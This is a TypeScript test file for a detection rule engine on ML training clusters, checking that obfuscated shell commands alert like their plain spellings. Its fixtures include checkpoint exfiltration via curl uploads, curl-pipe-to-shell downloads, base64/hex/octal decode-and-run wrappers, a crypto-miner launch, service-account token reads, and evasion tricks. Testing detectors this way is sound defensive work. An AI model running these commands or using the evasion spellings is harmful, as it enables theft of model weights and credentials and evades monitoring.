/**
 * Obfuscated exec commands (MITRE T1027) through the shipped rule set: every spelling a shell still
 * runs alerts as its plain spelling does, benign commands raise nothing new, and a spec's exec
 * allow list holds only when the script as the shell reads it is allowed too.
 */
import { describe, expect, it } from 'vitest';
import { execEvent, execRuleIds, PERSON, SA, SHIPPED_RULES } from './exec-events.test-support.js';
import { createRuleEngine } from './engine.js';
import { auditEvent, T0 } from './fixtures.test-support.js';
import { loadRuleSet } from './rule-loader.js';
import { enterEvent, leaveEvent } from './event-scope.js';
import { eventExecCanonical, eventFieldResolver } from './event-fields.js';

const RULES = SHIPPED_RULES;
const SIGMA_EXEC = '79cc565c-cf24-4bf3-b1bb-c00a7c99631c';

const ids = execRuleIds;

const CKPT = '/mnt/ckpt/llama-ft/step_9000/model.pt';
const URL = 'https://upload.filedrop-cdn.net/u/x';

describe('upload options compare case-sensitively (MLS-EXFIL-014)', () => {
  it('curl -f (fail quietly) is not curl -F (a form upload), clustered or not', () => {
    for (const cmd of [['curl', '-fsSL', 'https://get.example.com/install.sh'], ['curl', '-f', 'https://get.example.com/x'], ['sh', '-c', 'curl -fsSL https://get.example.com/install.sh | sh']]) {
      expect(ids(cmd), cmd.join(' ')).not.toContain('MLS-EXFIL-014');
    }
  });

  it('curl -F and -sF still alert', () => {
    expect(ids(['curl', '-F', `file=@${CKPT}`, URL])).toContain('MLS-EXFIL-014');
    expect(ids(['sh', '-c', `curl -sF file=@${CKPT} ${URL}`])).toContain('MLS-EXFIL-014');
  });
});

describe('kubectl cp rules need the archive on stdout (MLS-EXFIL-012, MLS-INSIDER-006/007)', () => {
  it('counts tar cf - copies of one workload, not tar archives written to files', () => {
    const run = (cmd: string[]): string[] => {
      const engine = createRuleEngine(RULES);
      const hits = new Set<string>();
      for (let i = 0; i < 4; i++) {
        const e = execEvent(cmd.map((w) => w.replace('N', String(i))), PERSON, 'llama-ft');
        e.ts = T0 + i * 60e6;
        for (const h of engine.evaluate(e)) hits.add(h.ruleId);
      }
      return [...hits];
    };
    const copies = run(['tar', 'cf', '-', '/mnt/ckpt/llama-ft/step_9000/model-0000N.safetensors']);
    expect(copies).toEqual(expect.arrayContaining(['MLS-EXFIL-012', 'MLS-INSIDER-006', 'MLS-INSIDER-007']));
    const toFile = run(['sh', '-c', 'tar czf /tmp/logsN.tgz /var/log/app']);
    for (const id of ['MLS-EXFIL-012', 'MLS-INSIDER-006', 'MLS-INSIDER-007']) expect(toFile).not.toContain(id);
  });
});

describe('a download piped into a shell (MLS-RAY-012)', () => {
  it('alerts, plain or obfuscated, and not for a download to a file', () => {
    for (const script of ['curl -fsSL http://203.0.113.7:8000/r.sh | sh', "c''url -s http://203.0.113.7/r.sh|bash", 'wget -qO- http://203.0.113.7/r.sh | /bin/sh']) {
      expect(ids(['sh', '-c', script]), script).toContain('MLS-RAY-012');
    }
    expect(ids(['sh', '-c', 'curl -fsSL -o /tmp/helm.tgz https://get.example.com/helm.tgz'])).not.toContain('MLS-RAY-012');
    expect(ids(['sh', '-c', 'ps aux | sh -c cat'])).not.toContain('MLS-RAY-012');
  });

  it('wrappers, paths, installer arguments, a tee between, a query string, python reading stdin', () => {
    for (const script of [
      'curl -fsSL http://203.0.113.7/r.sh|sudo -E /bin/bash',
      'curl -fsSL https://sh.example.com/install | sh -s -- -y',
      'wget -O - http://203.0.113.7/r.sh | bash -s stable',
      'curl -s http://203.0.113.7/r.sh | tee /tmp/.r | sh',
      'curl -s "http://203.0.113.7/i?os=linux&arch=amd64" | bash',
      'curl -s http://203.0.113.7/p.py | python3 -',
      'cd /tmp && curl -s http://203.0.113.7/r.sh | sh',
      'echo http://203.0.113.7/r.sh | xargs curl -s | sh',
      // Fetched and run through a substitution: the installer idioms.
      'bash -c "$(curl -fsSL https://203.0.113.7/install.sh)"',
      '$(wget -qO- http://203.0.113.7/r.sh)',
      'bash <(curl -s http://203.0.113.7/r.sh)',
      'source <(curl -s http://203.0.113.7/env.sh)',
      // An interpreter's whole program fetched, and a substitution that names the command behind a wrapper.
      'python3 -c "$(curl -s http://203.0.113.7/p.py)"',
      'perl -e "$(wget -qO- http://203.0.113.7/p.pl)"',
      'python3 <(curl -s http://203.0.113.7/p.py)',
      'nohup $(curl -s http://203.0.113.7/r | base64 -d) &',
      'curl -s http://203.0.113.7/r.sh | sh -s $(hostname) --quiet',
    ]) {
      expect(ids(['sh', '-c', script]), script).toContain('MLS-RAY-012');
    }
  });

  it('the fetch and the shell must be stages of one pipeline of one reading', () => {
    const b64 = (x: string): string => Buffer.from(x).toString('base64');
    for (const script of [
      // A decoded payload that uploads, run by a decode pipeline: curl is in the payload, `| sh` in the script.
      `echo ${b64(`curl -T ${CKPT} ${URL}`)} | base64 -d | sh`,
      // A fetch, then an unrelated file piped into a shell.
      'curl -s http://203.0.113.7/health; cat /etc/motd | sh',
      'curl -s -o /tmp/x http://203.0.113.7/x && cat /opt/setup.sh | sh',
      'curl -s http://203.0.113.7/health || cat /opt/setup.sh | bash',
      // Fetched text that no shell runs: a formatter, a script file, a shell given its own script.
      'curl -s http://203.0.113.7/api | python3 -m json.tool',
      'curl -s http://203.0.113.7/api | python3 -c "import sys; print(sys.stdin.read())"',
      'curl -s http://203.0.113.7/r.sh | bash /opt/setup.sh',
      'curl -s http://203.0.113.7/r.sh | sh -ec cat',
      'curl -s http://203.0.113.7/k | ssh host cat',
      'echo "curl -s http://203.0.113.7/r.sh" | grep -c sh',
      // A substitution whose output is data, not a script.
      'echo "$(curl -s http://203.0.113.7/health)"',
      'diff <(curl -s http://203.0.113.7/a) <(curl -s http://203.0.113.7/b)',
      'v=$(curl -s http://203.0.113.7/v); echo $v',
    ]) {
      expect(ids(['sh', '-c', script]), script).not.toContain('MLS-RAY-012');
    }
  });
});

describe('obfuscated upload commands alert like their plain spelling (MLS-EXFIL-014)', () => {
  const plainScript = ids(['sh', '-c', `curl -T ${CKPT} ${URL}`]);
  const plainArgv = ids(['curl', '-T', CKPT, URL]);

  it('the plain spellings alert', () => {
    expect(plainScript).toContain('MLS-EXFIL-014');
    expect(plainArgv).toContain('MLS-EXFIL-014');
  });

  const scripts: Array<[string, string]> = [
    ['tab', `curl\t-T ${CKPT} ${URL}`],
    ['two spaces', `curl  -T ${CKPT} ${URL}`],
    ["empty quotes c''url", `c''url -T ${CKPT} ${URL}`],
    ['double-quoted "curl"', `"curl" -T ${CKPT} ${URL}`],
    ['backslash c\\url', `c\\url -T ${CKPT} ${URL}`],
    ["ANSI-C $'\\x63url'", `$'\\x63url' -T ${CKPT} ${URL}`],
    ['octal $\'\\143url\'', `$'\\143url' -T ${CKPT} ${URL}`],
    ['${IFS}', `curl\${IFS}-T\${IFS}${CKPT} ${URL}`],
    ['$IFS', `curl$IFS-T ${CKPT} ${URL}`],
    ['path /usr/bin/curl', `/usr/bin/curl -T ${CKPT} ${URL}`],
    ['clustered -sT', `curl -sT ${CKPT} ${URL}`],
    ['env wrapper', `env /usr/bin/curl -T ${CKPT} ${URL}`],
    ['newline after a benign command', `ls /tmp\ncurl -T ${CKPT} ${URL}`],
    ['line continuation', `cu\\\nrl -T ${CKPT} ${URL}`],
    ['command substitution in quotes', `echo "$(c''url -T ${CKPT} ${URL})"`],
    ['nested shell', `bash -lc 'c"u"rl -T ${CKPT} ${URL}'`],
    ['variables $a$b', `a=cu; b=rl; $a$b -T ${CKPT} ${URL}`],
    ['a quoted variable "$x"', `x=curl; "$x" -T ${CKPT} \${URL:-${URL}}`],
    ['a braced variable ${x}', `x=/usr/bin/curl\ny=-T\n\${x} $y ${CKPT} ${URL}`],
  ];
  for (const [name, script] of scripts) {
    it(`sh -c with ${name}`, () => {
      expect(ids(['sh', '-c', script])).toContain('MLS-EXFIL-014');
    });
  }
  it('shells and -c clusters: bash -ec, busybox sh, zsh', () => {
    expect(ids(['bash', '-ec', `c''url -T ${CKPT} ${URL}`])).toContain('MLS-EXFIL-014');
    expect(ids(['busybox', 'sh', '-c', `"curl" -T ${CKPT} ${URL}`])).toContain('MLS-EXFIL-014');
    expect(ids(['/bin/zsh', '-o', 'pipefail', '-c', `c\\url -T ${CKPT} ${URL}`])).toContain('MLS-EXFIL-014');
  });

  const argvs: Array<[string, string[]]> = [
    ['path /usr/bin/curl', ['/usr/bin/curl', '-T', CKPT, URL]],
    ['clustered -sT', ['curl', '-sT', CKPT, URL]],
    ['env curl', ['env', 'curl', '-T', CKPT, URL]],
    ['timeout 30 /bin/curl', ['timeout', '30', '/bin/curl', '-T', CKPT, URL]],
  ];
  for (const [name, argv] of argvs) {
    it(`argv ${name} alerts as ${plainArgv.join(', ')}`, () => {
      expect(ids(argv)).toEqual(plainArgv);
    });
  }
  it('an obfuscated script raises what the plain script raises', () => {
    expect(ids(['sh', '-c', `c''url\t-T ${CKPT} ${URL}`])).toEqual(plainScript);
  });
});

describe('other exec rules see the script as the shell reads it', () => {
  it('cloud copy, packing, conversion, miners, token theft', () => {
    expect(ids(['sh', '-c', `a''ws  s3\tcp ${CKPT} s3://bucket/x`], SA)).toContain('MLS-EXFIL-014');
    expect(ids(['sh', '-c', `t\\ar -c${'z'}f /tmp/b.tgz /mnt/ckpt/llama-ft`], SA)).toContain('MLS-EXFIL-013');
    expect(ids(['sh', '-c', `"tar" cf - ${CKPT}`], PERSON)).toContain('MLS-EXFIL-012');
    expect(ids(['sh', '-c', `nohup /tmp/.x/xm''rig --donate-level 0 -o stratum+tcp://203.0.113.7:3333 &`], SA)).toContain('MLS-RAY-011');
    expect(ids(['sh', '-c', 'c""at /var/run/secrets/kubernetes.io/serviceaccount/token'], SA)).toContain('MLS-RAY-010');
    expect(ids(['bash', '-c', "$'\\x6c\\x73' /mnt/ckpt/llama-ft"], PERSON)).toContain('MLS-EXFIL-005');
  });
});

describe('decode-and-run spellings alert like the plain command (MITRE T1027 / T1140)', () => {
  const b64 = (x: string): string => Buffer.from(x).toString('base64');
  const hex = (x: string): string => Buffer.from(x).toString('hex');
  const octal = (x: string): string => [...x].map((c) => `\\${c.charCodeAt(0).toString(8)}`).join('');
  /** The spellings of one script that run it without a word of it in the argv. */
  const spellings = (p: string): Array<[string, string[]]> => [
    ['echo | base64 -d | sh', ['sh', '-c', `echo ${b64(p)} | base64 -d | sh`]],
    ['base64 --decode | sudo bash', ['sh', '-c', `echo ${b64(p)} | base64 --decode | sudo bash`]],
    ['base64 -d <<< | bash -s', ['bash', '-c', `base64 -d <<< ${b64(p)} | bash -s`]],
    ['openssl enc -d -base64', ['sh', '-c', `echo ${b64(p)} | openssl enc -d -base64 | sh`]],
    ['xxd -r -p', ['sh', '-c', `echo ${hex(p)} | xxd -r -p | sh`]],
    ['rev', ['sh', '-c', `echo '${[...p].reverse().join('')}' | rev | sh`]],
    ['eval "$(… | base64 -d)"', ['bash', '-c', `eval "$(echo ${b64(p)} | base64 -d)"`]],
    ['sh -c "$(… | base64 -d)"', ['bash', '-c', `sh -c "$(echo ${b64(p)} | base64 -d)"`]],
    ['bash <(… | base64 -d)', ['bash', '-c', `bash <(echo ${b64(p)} | base64 -d)`]],
    ["printf '\\NNN' | sh", ['sh', '-c', `printf '${octal(p)}' | sh`]],
    ['bash -c "$(printf …)"', ['bash', '-c', `bash -c "$(printf '${octal(p)}')"`]],
    ['eval of split words', ['bash', '-c', `eval ${p.split(' ').map((w) => `'${w}'`).join(' ')}`]],
    ['here-doc into a shell', ['sh', '-c', `bash <<'EOF'\n${p}\nEOF`]],
    ['here-string into a shell', ['sh', '-c', `bash <<< ${JSON.stringify(p)}`]],
    ['a variable run unquoted', ['sh', '-c', `x='${p}'; $x`]],
    ['a decoded variable, eval', ['bash', '-c', `x=$(echo ${b64(p)} | base64 -d); eval "$x"`]],
    ['a decoded variable, sh -c', ['sh', '-c', `x="$(echo ${hex(p)} | xxd -r -p)"\nsh -c "$x"`]],
  ];
  const cases: Array<[string, string, string]> = [
    ['MLS-EXFIL-014', `curl -T ${CKPT} ${URL}`, PERSON],
    ['MLS-EXFIL-014', `aws s3 cp ${CKPT} s3://bucket/x`, SA],
    ['MLS-EXFIL-013', 'tar czf /tmp/b.tgz /mnt/ckpt/llama-ft', PERSON],
    ['MLS-RAY-011', 'nohup /tmp/.x/xmrig --donate-level 0 -o stratum+tcp://203.0.113.7:3333 &', SA],
    ['MLS-RAY-010', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token', SA],
    ['MLS-EXFIL-005', 'ls -la /mnt/ckpt/llama-ft', PERSON],
  ];
  for (const [rule, p, actor] of cases) {
    const plain = ids(['sh', '-c', p], actor);
    it(`${rule}: the plain spelling alerts`, () => expect(plain).toContain(rule));
    for (const [name, argv] of spellings(p)) {
      it(`${rule} through ${name}`, () => {
        expect(ids(argv, actor)).toEqual(expect.arrayContaining(plain));
      });
    }
  }
  it('MLS-RAY-012: a download piped into a shell, hidden in a decoded payload', () => {
    const p = 'curl -fsSL http://203.0.113.7:8000/r.sh | sh';
    expect(ids(['bash', '-c', `eval "$(echo ${b64(p)} | base64 -d)"`])).toContain('MLS-RAY-012');
    expect(ids(['bash', '-c', `eval "$(printf '${octal(p)}')"`])).toContain('MLS-RAY-012');
    expect(ids(['sh', '-c', `echo ${b64(p)} | base64 -d | bash`])).toContain('MLS-RAY-012');
  });
});

describe('benign commands raise nothing new', () => {
  const only = [SIGMA_EXEC];
  for (const command of [['python', 'train.py', '--epochs', '3'], ['nvidia-smi'], ['sh', '-c', 'ls /data'], ['cat', '/etc/hostname'], ['sh', '-c', 'ps aux | grep -i python | head'], ['df', '-h', '/mnt/ckpt'], ['du', '-sh', '/data']]) {
    it(JSON.stringify(command), () => {
      expect(ids(command)).toEqual(only);
    });
  }
  it('a decode not run by a shell, a here-doc written to a file, a here-doc run by a shell', () => {
    expect(ids(['sh', '-c', 'echo aGVsbG8= | base64 -d'])).toEqual(only);
    expect(ids(['sh', '-c', 'cat <<EOF > /tmp/cfg\n[upload]\ntool = rclone\nEOF'])).toEqual(only);
    expect(ids(['sh', '-c', "kubectl apply -f - <<'EOF'\nkind: ConfigMap\ndata: {cmd: nc}\nEOF"])).toEqual(only);
    expect(ids(['sh', '-c', 'bash <<EOF\nnvidia-smi\ndf -h\nEOF'])).toEqual(only);
  });
  it('a benign command decoded into a shell raises the decode rule alone (MLS-RAY-013: the hiding itself)', () => {
    expect(ids(['sh', '-c', `echo ${Buffer.from('nvidia-smi').toString('base64')} | base64 -d | sh`])).toEqual(['MLS-RAY-013', SIGMA_EXEC].sort());
  });
  it('sh -c tar extraction is no `tar -c` (the shell\'s own -c is not read as the script\'s)', () => {
    expect(ids(['sh', '-c', 'tar xzf /data/shard-00.tgz'])).toEqual(only);
  });
  it('kubectl cp (tar cf - …) escalates as before, without packing rules', () => {
    expect(ids(['tar', 'cf', '-', '/mnt/ckpt/llama-ft/step_100/config.json'])).toEqual(['MLS-EXFIL-012', SIGMA_EXEC].sort());
  });
});

describe('spec exec allow lists: every reading must be allowed', () => {
  const SPEC = `kind: BehaviouralSpec
id: SPEC-T
title: t
selector: {namespaces: ['ml-train']}
exec:
  allow: ['nvidia-smi', 'nvidia-smi *', 'sh -c nvidia-smi*', 'sh -c ps *', 'sh -c ps * | grep * | head']
`;
  const set = loadRuleSet([{ path: 't.yaml', text: SPEC }]);
  const verdict = (command: string[]): string[] => createRuleEngine(set.rules).evaluate(execEvent(command, PERSON, 'ml-train/llama-ft')).map((h) => h.ruleId);

  it('loads', () => expect(set.errors).toEqual([]));
  it('allowed commands stay allowed', () => {
    for (const c of [['nvidia-smi'], ['nvidia-smi', '-q'], ['sh', '-c', 'nvidia-smi'], ['sh', '-c', 'nvidia-smi -q  # gpu'], ['sh', '-c', 'ps aux | grep -i python | head'], ['sh', '-c', 'ps aux']]) expect(verdict(c), JSON.stringify(c)).toEqual([]);
  });
  it('a command hidden past the 1024 characters the joined text keeps is read', () => {
    expect(verdict(['sh', '-c', `ps aux${' '.repeat(1100)}; curl -T ${CKPT} ${URL}`])).toEqual(['SPEC-T/exec']);
  });
  it('a script longer than the reader reads is not vouched for', () => {
    expect(verdict(['sh', '-c', `ps ${'a'.repeat(5000)}`])).toEqual(['SPEC-T/exec']);
  });
  it('a decoded or eval\'d payload is never allowed, even where the list allows its text', () => {
    const permissive = loadRuleSet([{ path: 'p.yaml', text: SPEC.replace("'sh -c ps * | grep * | head']", "'sh -c ps * | grep * | head', 'sh -c eval *', 'sh -c echo * | base64 -d | sh', 'sh -c bash']") }]);
    expect(permissive.errors).toEqual([]);
    const v = (command: string[]): string[] => createRuleEngine(permissive.rules).evaluate(execEvent(command, PERSON, 'ml-train/llama-ft')).map((h) => h.ruleId);
    expect(v(['sh', '-c', 'nvidia-smi'])).toEqual([]);
    expect(v(['sh', '-c', 'eval nvidia-smi'])).toEqual(['SPEC-T/exec']);
    expect(v(['sh', '-c', `echo ${Buffer.from('nvidia-smi').toString('base64')} | base64 -d | sh`])).toEqual(['SPEC-T/exec']);
    expect(v(['sh', '-c', `echo ${Buffer.from(`curl -T ${CKPT} ${URL}`).toString('base64')} | base64 -d | sh`])).toEqual(['SPEC-T/exec']);
  });
  it('commands not allowed stay not allowed', () => {
    expect(verdict(['sh', '-c', `nvidia-smi; curl -T ${CKPT} ${URL}`])).toEqual(['SPEC-T/exec']);
    expect(verdict(['curl', '-T', CKPT, URL])).toEqual(['SPEC-T/exec']);
  });
});

describe('per-event reading', () => {
  const lookup = eventFieldResolver.field('attrs.exec.command');
  const get = 'get' in lookup ? lookup.get : () => undefined;
  it('is computed once per event within the engine scope', () => {
    const e = execEvent(['sh', '-c', "c''url -T a u"]);
    enterEvent(e);
    try {
      const v = eventExecCanonical(e);
      expect(v?.commands).toEqual([['curl', '-T', 'a', 'u']]);
      expect(eventExecCanonical(e)).toBe(v);
      expect(get(e)).toBe(get(e));
    } finally {
      leaveEvent();
    }
  });
  it('events without an exec command read as before', () => {
    const e = auditEvent({ verb: 'get', objectRef: { resource: 'pods', namespace: 'ml-train' } });
    expect(eventExecCanonical(e)).toBeNull();
    expect(get(e)).toBeUndefined();
    const odd = execEvent({ not: 'argv' });
    expect(get(odd)).toEqual({ not: 'argv' });
    expect(eventExecCanonical(odd)).toBeNull();
  });
});
